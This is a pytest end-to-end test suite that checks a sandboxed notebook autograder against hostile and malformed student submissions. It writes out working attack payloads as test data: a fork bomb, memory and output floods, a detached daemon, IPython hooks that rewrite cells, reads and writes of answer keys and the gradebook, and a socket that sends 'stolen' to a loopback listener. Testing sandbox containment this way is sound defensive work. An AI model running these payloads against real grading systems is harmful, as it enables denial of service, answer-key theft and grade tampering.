"""The attack and fault corpus, through the real grading path (`psets grade` with parallel workers, nbgrader's
autograde pipeline, sandboxed kernels).

Every attacker answers every problem correctly except q1, whose answer cell is the attack. Expected every time: the
attacker gains no credit (q1 scores 0, nothing else rises above an honest student's), the instructor's files are
byte-identical afterwards, honest students' grades equal those of a run without attackers, the run completes, and the
attacker's feedback says what went wrong. Broken submissions are graded as far as the notebook allows.

The attacks that need the full sandbox to be safe (fork bomb as root) or to be blocked (files, network) are skipped
with the reason where bubblewrap is unavailable; CI installs it.
"""
from __future__ import annotations

import copy
import hashlib
import os
import uuid
from pathlib import Path

import nbformat
import pytest

from conftest import FAST, LoopbackListener, collect_results, make_course, submit
from graders import sandbox
from graders.classroom import TAMPERING, fill, reference_answers

pytestmark = pytest.mark.e2e
PS = "ps02_linear_algebra"
LEVEL = sandbox.detect()
FULL = LEVEL.isolated
MARKER = f"psets-orphan-{uuid.uuid4().hex}"
HONEST = ("honest_reference", "honest_partial")


def _read_attack(course: Path) -> str:
    targets = [course / "source" / PS / f"{PS}.ipynb", course / ".psets" / "keys" / PS / f"{PS}.json",
               course / "gradebook.db", course / "submitted" / "honest_reference" / PS / f"{PS}.ipynb",
               course / "nbgrader_config.py"]
    return ("import os\nfor p in %r:\n    try:\n        data = open(p, 'rb').read(40)\n        print('PWNED read', p)\n"
            "    except OSError as e:\n        print('blocked read', type(e).__name__)\n"
            "try:\n    print('PWNED list', os.listdir(%r))\nexcept OSError as e:\n    print('blocked list')\n"
            % ([str(t) for t in targets], str(course)))


def _write_attack(course: Path) -> str:
    targets = [course / "source" / PS / f"{PS}.ipynb", course / "release" / PS / f"{PS}.ipynb",
               course / "gradebook.db", course / "submitted" / "honest_reference" / PS / "planted.py",
               course / "source" / "planted.txt", course / ".psets" / "keys" / PS / f"{PS}.json"]
    return ("for p in %r:\n    try:\n        open(p, 'ab').write(b'x')\n        print('PWNED write', p)\n"
            "    except OSError as e:\n        print('blocked write', type(e).__name__)\n" % [str(t) for t in targets])


def _net_attack(port: int) -> str:
    return ("import socket\ns = socket.socket(); s.settimeout(3)\ntry:\n    s.connect(('127.0.0.1', %d))\n"
            "    s.sendall(b'stolen'); print('PWNED net')\nexcept OSError as e:\n    print('blocked net', "
            "type(e).__name__)\n" % port)


ATTACKS = {
    "fork_bomb": "import os\nwhile True:\n    os.fork()",
    "memory_20gb": "x = bytearray(20 * 2**30)",
    "print_100mb": "print('x' * 100_000_000)",
    "sigint_ignoring_loop": "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass",
    "os_exit": "import os\nos._exit(0)",
    "segfault": "import ctypes\nctypes.string_at(0)",
    "outlives_kernel": ("import subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; "
                        "time.sleep(900)', %r], start_new_session=True)\nprint('daemon started')" % MARKER),
    "rebinds_probes": TAMPERING,
    "hook_rewrites_cells": ("ip = get_ipython()\n"
                            "def _rewrite(lines):\n"
                            "    return [l.replace('report', 'print') for l in lines]\n"
                            "ip.input_transformers_post.append(_rewrite)\n"
                            "def _clear(*a):\n    from IPython.display import clear_output; clear_output()\n"
                            "ip.events.register('post_run_cell', _clear)\n"),
}
NEEDS_FULL = {"fork_bomb": "a fork bomb is only safe to run where the process limit holds for root",
              "read_files": "files are only hidden in the full sandbox",
              "write_files": "files are only protected in the full sandbox",
              "network": "the network is only cut in the full sandbox"}


def _broken(rel, ref) -> dict:
    nb = fill(rel, ref)
    out = {}
    missing = copy.deepcopy(nb)
    missing.cells = [c for c in missing.cells
                     if c.metadata.get("nbgrader", {}).get("grade_id") not in ("q3_answer", "q3_test")]
    out["broken_missing_cells"] = missing
    dup = copy.deepcopy(nb)
    i = next(k for k, c in enumerate(dup.cells) if c.metadata.get("nbgrader", {}).get("grade_id") == "q4_test")
    dup.cells.insert(i, copy.deepcopy(dup.cells[i]))
    out["broken_duplicated_cells"] = dup
    renamed = copy.deepcopy(nb)
    for c in renamed.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "q5_test":
            c.metadata["nbgrader"]["grade_id"] = "my_q5"
    out["broken_renamed_grade_id"] = renamed
    retyped = copy.deepcopy(nb)
    for c in retyped.cells:
        if c.metadata.get("nbgrader", {}).get("grade_id") == "q6_test":
            c.cell_type = "markdown"
            c.pop("outputs", None), c.pop("execution_count", None)
    out["broken_changed_cell_type"] = retyped
    big = copy.deepcopy(nb)
    big.cells.append(nbformat.v4.new_markdown_cell("padding " * 6_500_000))  # a 50 MB notebook
    out["broken_50mb"] = big
    return out


def _hashes(course: Path) -> dict[str, str]:
    out = {}
    for base in ("source", "release", ".psets", "submitted"):
        for p in sorted((course / base).rglob("*")):
            if p.is_file():
                out[str(p.relative_to(course))] = hashlib.sha256(p.read_bytes()).hexdigest()
    out["nbgrader_config.py"] = hashlib.sha256((course / "nbgrader_config.py").read_bytes()).hexdigest()
    return out


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    from graders.grade import grade

    course = make_course(tmp_path_factory.mktemp("attacks"), [PS])
    src = nbformat.read(course / "source" / PS / f"{PS}.ipynb", as_version=4)
    rel = nbformat.read(course / "release" / PS / f"{PS}.ipynb", as_version=4)
    ref = reference_answers(src)
    submit(course, PS, "honest_reference", fill(rel, ref))
    submit(course, PS, "honest_partial", fill(rel, {k: v for i, (k, v) in enumerate(ref.items()) if i % 3}))
    # Baseline: the honest students graded alone.
    base = collect_results(course, PS, grade(course, PS, list(HONEST), overrides=FAST, progress=False))
    baseline = {s: dict(r.cells) for s, r in base.items()}

    listener = LoopbackListener()
    attacks = dict(ATTACKS, read_files=_read_attack(course), write_files=_write_attack(course),
                   network=_net_attack(listener.port))
    run = {name: code for name, code in attacks.items() if FULL or name not in NEEDS_FULL}
    for name, code in run.items():
        submit(course, PS, f"attack_{name}", fill(rel, {**ref, "q1_answer": code}))
    for name, nb in _broken(rel, ref).items():
        submit(course, PS, name, nb)
    submit(course, PS, "broken_invalid_json", '{"cells": [ not json')
    renamed = course / "submitted" / "broken_renamed_notebook" / PS / "my_homework.ipynb"
    renamed.parent.mkdir(parents=True)
    nbformat.write(fill(rel, ref), renamed)
    extra = course / "submitted" / "extra_files" / PS
    extra.mkdir(parents=True)
    nbformat.write(fill(rel, ref), extra / f"{PS}.ipynb")
    (extra / "helper.py").write_text("def angle():\n    return 1\n")
    (extra / "data.bin").write_bytes(os.urandom(1 << 20))

    before = _hashes(course)
    try:
        outcomes = grade(course, PS, overrides=FAST, progress=False, workers=2)
    finally:
        listener.close()
    results = collect_results(course, PS, outcomes)
    return dict(course=course, src=src, run=run, results=results, baseline=baseline, before=before,
                after=_hashes(course), accepted=listener.accepted, outcomes={o.student: o for o in outcomes})


def _points(src) -> dict[str, float]:
    return {c.metadata["nbgrader"]["grade_id"]: float(c.metadata["nbgrader"]["points"]) for c in src.cells
            if c.cell_type == "code" and c.metadata.get("nbgrader", {}).get("grade")}


def _q1_output(g, student: str) -> str:
    nb = nbformat.read(g["course"] / "autograded" / student / PS / f"{PS}.ipynb", as_version=4)
    cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "q1_answer")
    return "".join(o.get("text", "") + o.get("ename", "") + o.get("evalue", "") for o in cell.outputs)


def test_the_run_completes_for_everyone(graded):
    """Did every submission, hostile or broken, come back from grading with an outcome?"""
    students = set(graded["outcomes"])
    assert {f"attack_{n}" for n in graded["run"]} <= students
    assert set(HONEST) <= students


def test_honest_students_grades_are_unchanged_by_attackers(graded):
    """Are the honest students' cell scores exactly those of a run without any attacker?"""
    for s in HONEST:
        assert graded["results"][s].cells == graded["baseline"][s], s


def test_instructor_files_are_byte_identical(graded):
    """Are source/, release/, the keys, the configuration and every submission byte-identical after grading?"""
    assert graded["after"] == graded["before"]


@pytest.mark.parametrize("name", sorted(set(ATTACKS) | set(NEEDS_FULL)))
def test_attacker_gains_no_credit(graded, name):
    """Does the attack score 0 on its problem and nothing beyond an honest student elsewhere?"""
    if name not in graded["run"]:
        pytest.skip(f"{NEEDS_FULL[name]} ({LEVEL.reason})")
    r = graded["results"][f"attack_{name}"]
    honest = graded["results"]["honest_reference"].cells
    assert r.success, r.message
    assert r.cells["q1_test"][0] == 0
    for gid, (score, *_rest) in r.cells.items():
        assert score <= honest[gid][0], (gid, score)


@pytest.mark.parametrize("name", ["memory_20gb", "print_100mb", "sigint_ignoring_loop", "os_exit", "segfault",
                                  "outlives_kernel", "read_files", "write_files", "network"])
def test_contained_attacks_cost_only_their_problem(graded, name):
    """After an attack that is stopped (limit, timeout, dead kernel, refused access), is the rest graded normally?"""
    if name not in graded["run"]:
        pytest.skip(f"{NEEDS_FULL[name]} ({LEVEL.reason})")
    r = graded["results"][f"attack_{name}"]
    honest = graded["results"]["honest_reference"].cells
    for gid in honest:
        if gid not in ("q1_test", "q11_proof"):
            assert r.cells[gid][0] == honest[gid][0], (gid, r.cells[gid])


@pytest.mark.skipif(not FULL, reason=f"files and network are only isolated in the full sandbox ({LEVEL.reason})")
def test_files_and_network_are_out_of_reach(graded):
    """Did every read, write, listing and connection attempt fail inside the kernel?"""
    for name in ("read_files", "write_files", "network"):
        out = _q1_output(graded, f"attack_{name}")
        assert "PWNED" not in out and "blocked" in out, (name, out)
    assert graded["accepted"] == []  # the listener on 127.0.0.1 never saw a connection
    assert not (graded["course"] / "source" / "planted.txt").exists()


def test_no_process_outlives_grading(graded):
    """Is the daemon the submission started gone once grading is over?"""
    assert "daemon started" in _q1_output(graded, "attack_outlives_kernel")
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                assert MARKER.encode() not in Path(f"/proc/{pid}/cmdline").read_bytes()
            except OSError:
                continue


@pytest.mark.parametrize("name,reason", [("sigint_ignoring_loop", "answer_timeout"), ("os_exit", "answer_kernel_died"),
                                         ("segfault", "answer_kernel_died")])
def test_attacker_feedback_says_what_went_wrong(graded, name, reason):
    """Does the verdict name why the attacked problem has no answer (time-out, dead kernel)?"""
    assert graded["results"][f"attack_{name}"].verdicts["q1.angle"]["reason"] == reason


def test_memory_and_output_floods_are_reported_to_the_student(graded):
    """Are the MemoryError and the truncated flood of output visible in the attacker's own notebook?"""
    assert "MemoryError" in _q1_output(graded, "attack_memory_20gb")
    flood = _q1_output(graded, "attack_print_100mb")
    assert len(flood) < 200_000 and "output cut: 100,000,001 characters" in flood  # graders.preprocessors.CapOutput


def test_broken_submissions_are_graded_as_far_as_possible(graded):
    """Do missing, duplicated, renamed or retyped cells, extra files and a 50 MB notebook cost only what they
    break?"""
    res, pts = graded["results"], _points(graded["src"])
    honest = res["honest_reference"].cells
    lost = {"broken_missing_cells": {"q3_test"}, "broken_duplicated_cells": set(),
            "broken_renamed_grade_id": set(), "broken_changed_cell_type": set(), "broken_50mb": set(),
            "extra_files": set()}
    for student, cells_lost in lost.items():
        r = res[student]
        assert r.success, (student, r.message)
        for gid in pts:
            expected = 0 if gid in cells_lost else honest[gid][0]
            assert r.cells[gid][0] == expected, (student, gid, r.cells[gid])


def test_unreadable_and_misnamed_notebooks_get_a_clear_message(graded):
    """Does an invalid file or a renamed notebook give that student a plain message and zero, nobody else?"""
    o = graded["outcomes"]
    assert not o["broken_invalid_json"].success and "not a valid notebook" in o["broken_invalid_json"].message
    r = o["broken_renamed_notebook"]
    assert "my_homework.ipynb" in r.message and f"{PS}.ipynb" in r.message
    assert (r.score or 0) == 0
